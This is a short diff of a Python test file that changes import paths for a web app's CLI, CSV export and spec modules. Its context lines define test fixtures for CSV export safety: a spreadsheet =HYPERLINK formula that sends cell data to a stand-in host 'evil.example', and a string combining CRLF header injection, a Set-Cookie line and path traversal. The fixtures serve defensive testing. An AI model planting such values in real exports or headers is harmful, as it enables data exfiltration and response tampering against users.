@@ -17,10 +17,10 @@ from typer.testing import CliRunner
 from tests.checks.conftest import drafts_a, drafts_b
 from tests.factories import make_article, make_dataset, make_run
 from tests.grading.conftest import GradingWorld, build_world, grade
-from webapp import cli as root
+from webapp.app import cli as root
 from webapp.checks import service as checks_service
-from webapp.csv_export import attachment_headers, csv_text, safe_cell
-from webapp.spec import EvalSpec
+from webapp.core.csv_export import attachment_headers, csv_text, safe_cell
+from webapp.core.spec import EvalSpec
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
 EVIL_RUN = 'q4 "final"; x=1\r\nSet-Cookie: a=b/../..\\été'
